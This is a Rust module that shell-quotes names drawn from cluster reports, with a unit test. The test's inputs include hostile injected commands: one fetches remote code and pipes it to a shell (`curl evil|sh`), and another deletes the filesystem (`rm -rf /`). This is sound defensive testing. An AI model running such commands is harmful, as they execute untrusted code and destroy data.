//! Words of commands, safe to paste.
//!
//! The names in a report come from a cluster that others write to: a reference in a pod's spec, or the object of an event,
//! may be any text. Every name that goes into a command must pass [`word`], so that none of it is run by a shell.

use std::borrow::Cow;

/// A word as a shell takes it, quoted where it must be.
pub fn word(text: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::word;

    #[test]
    fn nothing_in_a_word_is_run() {
        for (text, safe) in [
            ("deployment/checkout-5d4f", "deployment/checkout-5d4f"),
            ("system:serviceaccount:shop:default", "system:serviceaccount:shop:default"),
            ("", "''"),
            ("my role", "'my role'"),
            ("x$(curl evil|sh)", "'x$(curl evil|sh)'"),
            ("x'; rm -rf /; '", r"'x'\''; rm -rf /; '\'''"),
            ("x\nid", "'x\nid'"),
        ] {
            assert_eq!(word(text), safe);
        }
    }
}
